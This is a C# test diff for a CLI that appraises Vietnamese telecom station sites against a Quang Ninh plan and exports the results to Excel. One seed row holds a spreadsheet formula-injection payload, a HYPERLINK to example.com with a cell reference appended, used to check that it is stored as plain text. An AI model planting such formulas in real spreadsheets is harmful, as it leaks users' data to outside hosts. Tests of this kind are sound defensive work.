@@ -160,6 +160,77 @@ public class AppraiseCommandTests
         Assert.Equal(64, en[0]["plan_version"].Length);
     }
 
+    /// <summary>
+    /// <c>--out results.xlsx</c>: the CSV's Vietnamese columns in an Excel workbook, with the coordinates as numbers (a Vietnamese
+    /// Excel reads a CSV's decimal points as text), a carrier's formula-like code as plain text without an apostrophe, and a sheet
+    /// with the plan, the day and the counts; with <c>--lang en</c> the English columns.
+    /// </summary>
+    [Fact]
+    public void TheResultsAsAnExcelWorkbook_HaveNumbersAsNumbers_TextAsText_AndTheCounts()
+    {
+        var dir = CliRunner.NewTempDir();
+        var input = Write(
+            dir,
+            "seed.csv",
+            string.Join(
+                '\n',
+                Header,
+                "Viettel,MC-33,107.97826,21.53008,A2b,33,no,",
+                "Viettel,\"=HYPERLINK(\"\"http://example.com/?\"\"&A1)\",107.0800,20.9500,A1a,12,no,",
+                "VNPT,BAD,abc,20.95,A1a,12,no,"
+            ) + "\n"
+        );
+        var output = Path.Combine(dir, "ket-qua.xlsx");
+        var r = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--date", "2026-01-15");
+        Assert.Equal(0, r.ExitCode);
+        Assert.False(File.Exists(output + ".partial"));
+
+        var rows = MiniExcelLibs
+            .MiniExcel.Query(output, useHeaderRow: true, sheetName: "Kết quả thẩm định")
+            .Cast<IDictionary<string, object?>>()
+            .ToList();
+        Assert.Equal(3, rows.Count);
+        Assert.Equal(107.97826, Convert.ToDouble(rows[0]["Kinh độ"], System.Globalization.CultureInfo.InvariantCulture), 9);
+        Assert.IsType<double>(rows[0]["Kinh độ"]);
+        Assert.Equal("Cần xin ý kiến cơ quan có thẩm quyền", rows[0]["Kết quả thẩm định"]);
+        Assert.Equal("Khu vực quân sự, an ninh (R04)", rows[0]["Quy định không đạt hoặc cần xin ý kiến"]);
+        Assert.Equal("Phường Móng Cái 1", rows[0]["Xã, phường"]);
+        Assert.Equal("=HYPERLINK(\"http://example.com/?\"&A1)", rows[1]["Mã trạm"]);
+        Assert.Equal("Bị loại (dữ liệu lỗi)", rows[2]["Kết quả thẩm định"]);
+        Assert.Null(rows[2]["Kinh độ"]);
+
+        var facts = MiniExcelLibs
+            .MiniExcel.Query(output, sheetName: "Thông tin")
+            .Cast<IDictionary<string, object?>>()
+            .ToDictionary(x => (string)x["A"]!, x => x["B"]);
+        Assert.Equal("15/01/2026", facts["Thẩm định theo địa giới xã, phường ngày"]);
+        Assert.Equal("seed.csv", facts["Danh sách trạm đề xuất"]);
+        Assert.Equal(3.0, Convert.ToDouble(facts["Tổng số dòng"], System.Globalization.CultureInfo.InvariantCulture));
+        Assert.Equal(
+            1.0,
+            Convert.ToDouble(facts["Cần xin ý kiến cơ quan có thẩm quyền"], System.Globalization.CultureInfo.InvariantCulture)
+        );
+        Assert.Equal(1.0, Convert.ToDouble(facts["Bị loại (dữ liệu lỗi)"], System.Globalization.CultureInfo.InvariantCulture));
+        Assert.StartsWith(
+            "Quy hoạch hạ tầng kỹ thuật viễn thông thụ động tỉnh Quảng Ninh",
+            (string)facts["Quy hoạch"]!,
+            StringComparison.Ordinal
+        );
+
+        Assert.Equal(
+            0,
+            CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--lang", "en").ExitCode
+        );
+        var en = MiniExcelLibs
+            .MiniExcel.Query(output, useHeaderRow: true, sheetName: "Results")
+            .Cast<IDictionary<string, object?>>()
+            .ToList();
+        Assert.Equal("needs_consultation", en[0]["verdict"]);
+        Assert.Equal("R04", en[0]["failing_rules"]);
+        Assert.Equal(64, ((string)en[0]["plan_version"]!).Length);
+        Assert.Equal("rejected", en[2]["verdict"]);
+    }
+
     [Fact]
     public void TheReportPeriodsBatchOf279IsAppraisedEndToEndWithTheCountsPrinted()
     {
